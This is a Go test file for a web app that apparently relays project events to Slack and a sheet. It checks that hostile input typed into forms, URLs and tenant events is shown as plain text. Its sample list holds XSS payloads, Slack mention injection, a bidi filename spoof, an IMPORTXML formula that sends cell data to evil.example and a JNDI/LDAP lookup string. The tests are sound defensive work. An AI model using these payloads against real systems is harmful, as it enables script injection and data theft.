package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"testing"

	"github.com/ppmrelay/ppmrelay/event"
	"github.com/ppmrelay/ppmrelay/sandbox/ppm"
)

// hostileTexts would do something wherever they are more than a text.
func hostileTexts() []string {
	return []string{
		`<script>window.touched=1;alert(1)</script>`,
		`"><img src=x onerror="window.touched=1;alert(1)">`,
		`'><svg/onload=window.touched=1> onmouseover="alert(1)" x='`,
		`</textarea></title></select><script src="https://evil.example/x.js"></script>`,
		`javascript:window.touched=1//<a href="javascript:alert(1)">x</a>`,
		`<!channel> @channel @here <@U012AB3CD> *bold* <https://evil.example/|click>`,
		`=IMPORTXML("https://evil.example/?q="&A1,"//a")`,
		"Invoice \u202egnp.exe\u202c שלום \u2066a\u2069",
		`{{ .Secrets }} ${jndi:ldap://evil.example/a} %s &lt;b&gt; &amp;`,
	}
}

// hostileForms types what would act into every form of the page: it is shown as it was typed, everywhere. Only what
// would act in Slack itself is told with a character between, or one that looks alike, and directions are left out.
func (v visits) hostileForms(t *testing.T) {
	t.Parallel()
	s := serveDemo(t)
	b := openTab(t, v, s, "/")
	names := value[[]string](b, "$$('#part-tenant [data-key=Project] details.ent:not(.make) summary bdi:not(small bdi)').map((n) => n.textContent)")
	for i, text := range hostileTexts() {
		id := b.open(names[i])
		b.enter("#"+id+"-Name", text)
		b.enter("#"+id+"-Description", text)
		b.save(id)
	}
	for _, text := range hostileTexts() {
		b.until("the name is shown", fmt.Sprintf("entity(%s)", inScript(text)))
	}
	b.until("everything is told", "calm()")
	for i, text := range hostileTexts() {
		shown := "plain(" + inScript(text) + ")"
		if !value[bool](b, "$$('.sl-b').some((m) => plain(m.textContent).includes("+shown+"))") {
			t.Errorf("%q is not in the channel as it was typed", text)
		}
		if !value[bool](b, fmt.Sprintf("rows().some((r) => r.Field === 'Name' && r.Before === %s && plain(r.After) === %s)", inScript(names[i]), shown)) {
			t.Errorf("%q is not in the sheet as it was typed", text)
		}
	}
	if n := value[int](b, "$$('.sl-mention').length"); n != 0 {
		t.Errorf("%d mentions ring in the channel", n)
	}
	if value[bool](b, "$$('a').some((a) => a.href.includes('evil') || a.href.startsWith('javascript:'))") {
		t.Error("a link leads where a name wants it to")
	}
	b.hostileElsewhere()
}

// hostileElsewhere uses the other forms, and the addresses of the page.
func (b *tab) hostileElsewhere() {
	b.t.Helper()
	for i, text := range hostileTexts() {
		if i < 2 { // a new column each
			b.click("#part-sheet details.pop > summary")
			b.enter("#part-sheet details.pop input[name=header]", text)
			b.click("#part-sheet details.pop .btn.main")
			b.until("the column", fmt.Sprintf("heads().includes(%s)", inScript(text)))
		}
		cell := fmt.Sprintf("#part-sheet tbody tr:nth-child(%d) td input[name=value]", i+1)
		b.click(cell)
		b.enter(cell, text)
		b.do("leaving the cell", evaluated(fmt.Sprintf("document.querySelector(%q).dispatchEvent(new Event('change', { bubbles: true }))", cell)))
		b.until("it is answered", "$('#part-sheet .say').textContent !== ''")
	}
	for _, text := range hostileTexts() {
		query := url.Values{"find": {text}, "tab": {text}, "open": {text}, "channel": {text}, "rows": {text}, "said": {text}}
		b.visit("/?" + query.Encode())
		b.until("the page", "$('#find').value === "+inScript(text))
	}
}

// inScript is a text in JavaScript.
func inScript(text string) string {
	all, err := json.Marshal(text)
	if err != nil {
		panic(err) // unreachable: it is a text
	}
	return string(all)
}

// hostileTenant lets the tenant send each of the hostile samples, and looks at all that is shown of them.
func (v visits) hostileTenant(t *testing.T) {
	t.Parallel()
	stage := openHostileStage(t)
	listener, err := listenPage(t.Context(), "127.0.0.1:0", true)
	if err != nil {
		t.Fatal(err)
	}
	shown := stage.show(listener, 0)
	t.Cleanup(func() { _ = shown.close() })
	s := served{url: "http://" + shown.address}
	b := openTab(t, v, s, "/")
	sent := sendHostile(t, stage)
	if err := stage.drain(t.Context(), drainTime, func() {}); err != nil {
		t.Fatal(err)
	}
	b.visit("/?messages=500&rows=1000&project=250")
	b.until("everything is told", "calm() && rows().length > 20 && told('') > 2")
	b.do("opening everything", evaluated("document.querySelectorAll('details').forEach((d) => { d.open = true; })"))
	if n := value[int](b, "$$('.sl-mention').length"); n != 0 {
		t.Errorf("%d mentions ring in the channel", n)
	}
	if value[bool](b, "$$('a').some((a) => a.href.includes('evil') || a.href.startsWith('javascript:'))") {
		t.Error("a link leads where the tenant wants it to")
	}
	if strangers := value[[]string](b, "$$('#part-channel script, #part-sheet script, #part-tenant script, img, iframe, object, svg:not([aria-hidden=true], [aria-hidden=true] svg)').map((n) => n.outerHTML.slice(0, 200))"); len(strangers) != 0 {
		t.Errorf("%q are in the page, where nobody put them", strangers)
	}
	for number := range sent {
		b.visit(fmt.Sprintf("/events/%d", number+1))
		b.until("its story", fmt.Sprintf("$('h1').textContent === 'Event %d'", number+1))
	}
	if alive := stage.Slack.Alive(); len(alive) > 0 {
		t.Errorf("these ring in Slack: %q", alive)
	}
}

func openHostileStage(t *testing.T) *stage {
	t.Helper()
	s, err := openStage(t.Context(), ppm.NewPortfolio().Entities)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := errors.Join(s.close(), os.RemoveAll(s.folder)); err != nil {
			t.Error(err)
		}
	})
	return s
}

// sendHostile makes each hostile sample happen to a project of its own, and sends as it stands what no tenant can hold.
// It returns how many events there are.
func sendHostile(t *testing.T, s *stage) (events int) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(repository, "samples", "hostile", "*.json"))
	if err != nil || len(files) < 20 {
		t.Fatalf("got %d samples, %v", len(files), err)
	}
	projects := s.PPM.Entities(event.Project)
	for i, file := range files {
		var sample struct {
			Data struct{ Attributes map[string]any }
		}
		if err := json.Unmarshal(mustRead(t, file), &sample); err != nil || len(sample.Data.Attributes) == 0 {
			if got := post(t, "http://"+s.events+"/events/Project/Updated", file); got == http.StatusAccepted {
				events++
			}
			continue
		}
		delete(sample.Data.Attributes, "Id")
		if err := s.PPM.Edit(event.Project, projects[i].ID, sample.Data.Attributes, event.Person{ID: "1", Name: `<img src=x onerror=alert(1)> <!here>`}); err != nil {
			t.Errorf("%s: %v", file, err)
		}
		events++
	}
	return events
}
